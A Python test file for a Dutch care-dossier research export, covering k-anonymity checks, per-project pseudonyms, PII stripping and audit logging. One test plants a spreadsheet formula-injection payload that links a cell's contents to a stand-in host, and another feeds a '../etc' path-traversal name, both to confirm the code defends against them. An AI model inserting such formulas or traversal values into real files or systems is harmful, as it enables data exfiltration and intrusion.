"""The research export (monitoring/exchange/research.py, decision 0049): the k-anonymity
check refuses and passes on hand-built events with the k written here, across the
project's earlier exports too; the extract has no name, BSN, free text or exact date
(checked against the dossier's own text and date fields and every column's kind); every
approval and refusal is logged with the columns, the rows and the k."""

import re
import uuid
from datetime import date, timedelta

import pytest
from django.apps import apps
from django.db import models
from django.utils import timezone

from netwerkdossier.access.context import context_for
from netwerkdossier.access.monitoring_exchange import ExchangeRefused
from netwerkdossier.accounts.models import User
from netwerkdossier.audit.models import AccessLogRecord
from netwerkdossier.monitoring.exchange import kanon, research
from netwerkdossier.monitoring.exchange.models import ResearchRequest
from netwerkdossier.monitoring.exchange.research_columns import (
    BAND,
    BY_KEY,
    CODE,
    COLUMNS,
    PERIOD,
    PSEUDONYM,
)
from netwerkdossier.monitoring.models import Area, Event
from netwerkdossier.organisations.models import Membership, Organisation, Region

KEY = b"onderzoekssleutel-alleen-voor-deze-test-0123456789"


def person(username, role, region):
    user = User.objects.create(username=username, first_name=username.title(),
                               last_name="Test")
    organisation = Organisation.objects.create(region=region, name=f"Org {username}",
                                               kind="other")
    Membership.objects.create(user=user, organisation=organisation, role=role,
                              discipline="beleid",
                              valid_from=timezone.localdate() - timedelta(days=1))
    return context_for(user)


@pytest.fixture
def ten_cases(db):
    """Ten cases of region r-onderzoek (hand-built events): cases 0-4 reported in the
    first quarter of 2026, 5-9 in the second; households of 3 for cases 0, 1, 2, 5, 6
    and of 6 for the others; every route lokaal_vrijwillig except case 9 (rvt_gezamenlijk).
    Returns (the programme team's context, the privacy officer's context)."""
    region = Region.objects.create(code="r-onderzoek", name="Onderzoeksregio")
    area = Area.objects.create(region=region, municipality="Noorddorp")
    for i in range(10):
        case, household = uuid.uuid4(), uuid.uuid4()
        reported = date(2026, 1 + (i % 5) // 2 + (3 if i >= 5 else 0), 10)
        members = 3 if i in (0, 1, 2, 5, 6) else 6
        common = {"region": region, "area": area, "case_key": case, "household_key": household}
        Event.objects.create(kind="report", code="melding", occurred_on=reported,
                             members=members, children=1, **common)
        Event.objects.create(kind="route", occurred_on=reported + timedelta(days=7),
                             code="rvt_gezamenlijk" if i == 9 else "lokaal_vrijwillig",
                             **common)
    return (person("pim", Membership.Role.PROGRAMMATEAM, region),
            person("fenna", Membership.Role.PRIVACY_OFFICER, region))


@pytest.mark.parametrize(("columns", "k", "rare_groups", "rare_rows"), [
    (["regio"], 10, 0, 0),
    (["regio", "gemeld_kwartaal"], 5, 0, 0),  # 5 in K1, 5 in K2
    (["regio", "huishoudgrootte"], 5, 0, 0),  # 5 of "3-4", 5 of "5+"
    (["regio", "route"], 1, 1, 1),  # one case took the RVT route
    # Jan 2, Feb 2, Mar 1; Apr 2, May 2, Jun 1: all six months too rare
    (["regio", "gemeld_maand"], 1, 6, 10),
    (["regio", "gemeld_kwartaal", "huishoudgrootte"], 2, 4, 10),  # 3, 2 / 2, 3
])
def test_k_on_the_hand_built_cases(ten_cases, columns, k, rare_groups, rare_rows):
    rows = research.rows(research.checked_columns(columns), KEY, "p")
    assert len(rows) == 10
    result = kanon.check(rows, columns)
    assert (result.k, result.rare_groups, result.rare_rows) == (k, rare_groups, rare_rows)
    assert result.passed is (k >= 5)


def test_a_passing_export_is_written_and_logged(ten_cases):
    asker, officer = ten_cases
    found = research.request(asker, "p1", ["regio", "gemeld_kwartaal"])
    done, content = research.approve(officer, found.pk, KEY)
    lines = content.decode().splitlines()
    assert lines[0] == "huishouden;traject;regio;gemeld_kwartaal"
    assert len(lines) == 11 and sorted(line.split(";")[3] for line in lines[1:]) == \
        ["2026-K1"] * 5 + ["2026-K2"] * 5
    assert (done.status, done.rows, done.k, done.decided_by.username) == (
        ResearchRequest.Status.DONE, 10, 5, "fenna")
    record = AccessLogRecord.objects.filter(event_code="monitoring.research_export").latest("id")
    assert (record.result, record.username, record.purpose) == ("granted", "fenna", "onderzoek")
    assert record.object_ids == [str(found.pk), "p1",
                                 "kolommen=huishouden,traject,regio,gemeld_kwartaal",
                                 "rijen=10", "k=5"]
    asked = AccessLogRecord.objects.filter(event_code="monitoring.research_request").get()
    assert (asked.username, asked.object_ids[1]) == ("pim", "p1")


def test_a_failing_export_is_refused_in_dutch_without_the_rare_values_and_logged(ten_cases):
    asker, officer = ten_cases
    found = research.request(asker, "p1", ["regio", "route"])
    with pytest.raises(ExchangeRefused) as refused:
        research.approve(officer, found.pk, KEY)
    message = refused.value.message
    assert message.startswith("De export voldoet niet aan k-anonimiteit: k = 1, er moet "
                              "minstens 5 zijn. 1 "
                              "combinatie(s) van de kenmerken regio, route komen bij minder "
                              "dan 5 gezinnen voor (1 rijen).")
    assert "rvt_gezamenlijk" not in message and "r-onderzoek" not in message
    found.refresh_from_db()
    assert (found.status, found.k, found.rows, found.file_sha256) == (
        ResearchRequest.Status.REFUSED_K, 1, 10, "")
    record = AccessLogRecord.objects.filter(event_code="monitoring.research_export").latest("id")
    assert (record.result, record.object_ids[-2:]) == ("refused", ["rijen=10", "k=1"])


def test_k_counts_the_projects_earlier_columns_too(ten_cases):
    """Quarter alone and household size alone both give k = 5, but a researcher joins the
    two exports of one project on the pseudonyms: together k = 2, refused. In another
    project (other pseudonyms) the same columns pass."""
    asker, officer = ten_cases
    research.approve(officer, research.request(asker, "p1", ["regio", "gemeld_kwartaal"]).pk,
                     KEY)
    second = research.request(asker, "p1", ["regio", "huishoudgrootte"])
    with pytest.raises(ExchangeRefused, match="k = 2.*regio, gemeld_kwartaal, huishoudgrootte"):
        research.approve(officer, second.pk, KEY)
    other = research.request(asker, "p2", ["regio", "huishoudgrootte"])
    assert research.approve(officer, other.pk, KEY)[0].k == 5


def test_pseudonyms_differ_per_project_and_from_the_monitoring_pseudonyms(ten_cases):
    one = research.rows(["huishouden", "traject", "regio"], KEY, "p1")
    two = research.rows(["huishouden", "traject", "regio"], KEY, "p2")
    monitoring = {str(v) for pair in Event.objects.values_list("household_key", "case_key")
                  for v in pair}
    assert {r["traject"] for r in one}.isdisjoint({r["traject"] for r in two})
    assert not {r["traject"] for r in one} & monitoring
    assert not {r["huishouden"] for r in one} & monitoring


@pytest.mark.parametrize("key", [b"kort", b"  "])
def test_a_weak_research_key_is_refused(ten_cases, key):
    asker, officer = ten_cases
    found = research.request(asker, "p1", ["regio"])
    with pytest.raises(ExchangeRefused, match="te kort"):
        research.approve(officer, found.pk, key)


def test_the_monitoring_key_is_not_a_research_key(ten_cases, settings):
    settings.MONITORING_KEY = KEY.decode()
    asker, officer = ten_cases
    with pytest.raises(ExchangeRefused, match="andere sleutel"):
        research.approve(officer, research.request(asker, "p1", ["regio"]).pk, KEY)


def test_unknown_columns_are_refused_in_dutch(ten_cases):
    asker, _officer = ten_cases
    with pytest.raises(ExchangeRefused, match="Onbekende kolom: bsn"):
        research.request(asker, "p1", ["regio", "bsn"])
    assert not ResearchRequest.objects.exists()


# What each kind of column may hold: a pseudonym, a code, a band, a month or quarter.
PATTERNS = {PSEUDONYM: re.compile(r"^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-"
                                  r"[0-9a-f]{12}$"),
            PERIOD: re.compile(r"^(\d{4}-(0[1-9]|1[0-2])|\d{4}-K[1-4])?$")}


def _dossier_text_and_dates():
    """Every text and date value stored in the dossier's own tables (persons, households,
    cases, entries, ...): derived from the models, not a list of names."""
    texts, dates = set(), set()
    for label in ("households", "cases", "dossier", "safety", "measures", "accounts"):
        for model in apps.get_app_config(label).get_models():
            for field in model._meta.concrete_fields:
                if isinstance(field, models.CharField | models.TextField):
                    texts |= {v for v in model.objects.values_list(field.attname, flat=True)
                              if isinstance(v, str) and len(v) >= 4}
                elif isinstance(field, models.DateField):  # DateTimeField included
                    dates |= {v.date() if hasattr(v, "date") else v
                              for v in model.objects.values_list(field.attname, flat=True)
                              if v is not None}
    return texts, dates


def test_the_extract_has_no_name_bsn_free_text_or_exact_date(cast, policy):
    from netwerkdossier.monitoring.events import VOCABULARY
    from netwerkdossier.monitoring.rebuild import rebuild

    rebuild()  # the cast's work as events
    every = [c.key for c in COLUMNS]
    rows = research.rows(every, KEY, "p1")
    assert rows, "the cast's cases are in the event table"
    texts, dates = _dossier_text_and_dates()
    # The derived sets do hold what must not leak: names, the BSN, birth dates.
    assert {cast.mother.bsn, cast.mother.family_name} <= texts
    assert cast.mother.birth_date in dates
    allowed_codes = set(Region.objects.values_list("code", flat=True)) | set(
        Area.objects.values_list("municipality", flat=True)) | {"ja", "nee", ""}
    for row in rows:
        assert set(row) == set(every)
        for key, value in row.items():
            column = BY_KEY[key]
            if column.kind in PATTERNS:
                assert PATTERNS[column.kind].match(value), (key, value)
            elif column.kind == BAND:
                assert value in column.bands, (key, value)
            else:
                assert column.kind == CODE
                assert value in VOCABULARY or value in allowed_codes, (key, value)
            assert not re.search(r"\d{4}-\d{2}-\d{2}|\d{1,2}-\d{1,2}-\d{4}", value)
            assert value not in {d.isoformat() for d in dates}
            if column.kind != CODE:
                assert not any(t in value for t in texts if len(t) >= 4), (key, value)
    # The municipality and region columns hold area names, which are in no person's
    # name or free text of the dossier here; a code column holds nothing typed.
    typed = {t for t in texts if " " in t or len(t) > 40}
    assert not {v for row in rows for v in row.values()} & typed


@pytest.mark.parametrize("project", ["", "a", "Mijn Project", "x" * 61, "../etc"])
def test_a_project_name_is_lower_case_letters_digits_and_dashes(ten_cases, project):
    asker, _officer = ten_cases
    with pytest.raises(ExchangeRefused, match="kleine letters, cijfers en streepjes"):
        research.request(asker, project, ["regio"])
    assert not ResearchRequest.objects.exists()


def test_k_counts_families_not_cases(ten_cases):
    """Five cases of one family in another municipality are five rows, but one family:
    the household pseudonym in every row shows the researcher they are one, so k = 1."""
    asker, officer = ten_cases
    region = Region.objects.get(code="r-onderzoek")
    elsewhere = Area.objects.create(region=region, municipality="Zuiddorp")
    family = uuid.uuid4()
    for year in range(2021, 2026):
        Event.objects.create(kind="report", code="melding", occurred_on=date(year, 3, 1),
                             members=4, children=2, region=region, area=elsewhere,
                             case_key=uuid.uuid4(), household_key=family)
    columns = research.checked_columns(["gemeente"])
    rows = research.rows(columns, KEY, "p")
    assert kanon.check(rows, research.quasi_identifiers(columns)).k == 5  # rows would pass
    found = research.request(asker, "p1", ["gemeente"])
    with pytest.raises(ExchangeRefused, match=r"k = 1,.*minder dan 5 gezinnen voor \(5 rijen\)"):
        research.approve(officer, found.pk, KEY)
    found.refresh_from_db()
    assert (found.status, found.k, found.rows) == (ResearchRequest.Status.REFUSED_K, 1, 15)


def test_a_typed_municipality_cannot_become_a_spreadsheet_formula(ten_cases):
    """The municipality is typed on the household: in the CSV it must stay text."""
    asker, officer = ten_cases
    formula = '=HYPERLINK("https://example.invalid/?"&A2;"klik")'
    Area.objects.filter(municipality="Noorddorp").update(municipality=formula)
    found = research.request(asker, "p1", ["gemeente"])
    _done, content = research.approve(officer, found.pk, KEY)
    cells = [cell for line in content.decode().splitlines()[1:]
             for cell in next(__import__("csv").reader([line], delimiter=";"))]
    assert cells.count("'" + formula) == 10
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
